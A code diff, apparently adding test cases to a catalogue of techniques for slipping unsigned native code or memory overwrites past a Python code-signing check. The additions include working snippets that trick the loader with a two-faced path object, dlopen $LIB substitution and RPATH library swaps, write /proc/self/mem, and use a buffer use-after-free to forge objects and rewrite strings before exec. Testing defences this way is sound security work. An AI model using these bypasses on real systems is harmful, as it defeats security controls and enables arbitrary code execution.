@@ -1,6 +1,7 @@
 /** Native code: extension modules, ctypes, other loaders, and the process's own memory. */
 
-import { copyFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import { execFileSync } from "node:child_process";
+import { copyFileSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import { extensionModule } from "../making.js";
 import { openCodeHookOffset } from "../native.js";
 import { EVIL, type Place, since, type Technique, withData, withText } from "../technique.js";
@@ -17,6 +18,32 @@ const signedExtension: Partial<Technique> = {
 	prepare: ({ app, library }) => copyFileSync(extensionModule(library, "_queue"), `${app}/_queue.so`),
 };
 const SIGNED_FIRST = "sys.path.insert(0, __file__[:-7])\n";
+
+/** Says one path when the loader asks, and another one when the hook does. */
+const TWO_PATHS = `class Path:
+    def __init__(self, *paths): self.paths = list(paths)
+    def __fspath__(self): return self.paths.pop(0) if len(self.paths) > 1 else self.paths[0]
+`;
+/** A directory of the name that dlopen(3) puts another one for, with a signed module in it. */
+const replacedDirectory: Partial<Technique> = {
+	arrange: ({ data, library }) => {
+		mkdirSync(`${data}/$LIB`);
+		symlinkSync(extensionModule(library, "_queue"), `${data}/$LIB/evil.so`);
+		for (const meant of ["lib/x86_64-linux-gnu", "lib64", "lib"]) {
+			mkdirSync(`${data}/${meant}`, { recursive: true });
+			copyFileSync(`${data}/evil.so`, `${data}/${meant}/evil.so`);
+		}
+	},
+};
+/** A signed library that needs another one beside it. */
+const signedPair: Partial<Technique> = {
+	prepare: ({ app }) => {
+		const build = (name: string, ...words: string[]) =>
+			execFileSync("cc", ["-shared", "-fPIC", "-x", "c", "-", "-o", `${app}/${name}`, ...words], { input: "" });
+		build("libinner.so");
+		build("libouter.so", "-x", "none", "-Wl,--no-as-needed,-rpath,$ORIGIN", `-L${app}`, "-linner");
+	},
+};
 
 /** Not every build lets SQLite load extensions. */
 const SQLITE = { needs: `hasattr(__import__("sqlite3").Connection, "enable_load_extension")` };
@@ -155,6 +182,30 @@ import evil`,
 			arrange: ({ data, python }) => writeFileSync(`${data}/offset`, openCodeHookOffset(python, data)),
 		},
 	),
+	native(
+		"library by a path object that says two paths",
+		`${TWO_PATHS}import _ctypes\n_ctypes.dlopen(Path(data + "/evil.so", _ctypes.__file__), 2)`,
+	),
+	native(
+		"library in a directory that the loader replaces",
+		`import ctypes\nctypes.CDLL(data + "/$LIB/evil.so")`,
+		replacedDirectory,
+	),
+	native(
+		"extension module in a directory that the loader replaces",
+		`import _imp\nclass Spec:\n    name = "_queue"\n    origin = data + "/$LIB/evil.so"\n_imp.create_dynamic(Spec)`,
+		replacedDirectory,
+	),
+	native(
+		"changed library that a signed library needs",
+		`import ctypes, os\nctypes.CDLL(os.path.dirname(os.path.abspath(__file__)) + "/libouter.so")`,
+		{ ...signedPair, ...copy(({ app }) => `${app}/libinner.so`) },
+	),
+	native(
+		"library by a script in Tcl",
+		`import _tkinter\n_tkinter.create(None, "x", "Tk", False, True, False).call("load", data + "/evil.so")`,
+		{ needs: `__import__("importlib.util").util.find_spec("_tkinter") is not None` },
+	),
 	withData(
 		"open-code hook replaced by ctypes",
 		`import ctypes, io, os
@@ -202,6 +253,46 @@ export const memory: readonly Technique[] = [
 	overwrites(
 		"memory by a directory's descriptor",
 		`os.open("mem", os.O_RDWR, dir_fd=os.open("/proc/self", os.O_RDONLY))`,
+	),
+	overwrites(
+		"memory by a directory's descriptor, with a file of that name in the working directory",
+		`(os.mkdir(data + "/self"), open(data + "/self/mem", "w").close(), os.chdir(data), os.open("self/mem", os.O_RDWR, dir_fd=os.open("/proc", os.O_RDONLY)))[3]`,
+	),
+	overwrites(
+		"memory by a link beside a directory's descriptor",
+		`(os.symlink("/proc/self/mem", data + "/memory"), os.open("memory", os.O_RDWR, dir_fd=os.open(data, os.O_RDONLY)))[1]`,
+	),
+	withText(
+		"memory by a path object that says two paths",
+		`${TWO_PATHS}import io
+constant = "pass" + " " * 200
+memory = io.FileIO(Path("/proc/self/mem", "/dev/null"), "r+")
+memory.seek(id(constant) + sys.getsizeof("") - 1)
+memory.write(text.strip().ljust(204).encode())
+exec(constant)`,
+	),
+	withText(
+		"memory by a view of a buffer that is gone",
+		`import io, struct
+class Raw(io.RawIOBase):
+    def readable(self): return True
+    def readinto(self, buffer):
+        global view
+        view = buffer
+        return 0
+constant = "pass" + " " * 200
+new = text.strip().ljust(204).encode()
+address = id(constant) + sys.getsizeof("") - 1
+forged = struct.pack("QQqqQQQ", 1 << 20, id(bytearray), 204, 205, address, address, 0)
+reader = io.BufferedReader(Raw(), 512)
+reader.read(1)
+del reader
+view = view.cast("P")
+objects = [None] * 64
+view[0] = id(forged) + sys.getsizeof(b"") - 1
+objects[0][0:204] = new
+view[0] = id(None)
+exec(constant)`,
 	),
 	overwrites("memory by the root directory of the process", `os.open("/proc/self/root/proc/self/mem", os.O_RDWR)`),
 	withText(
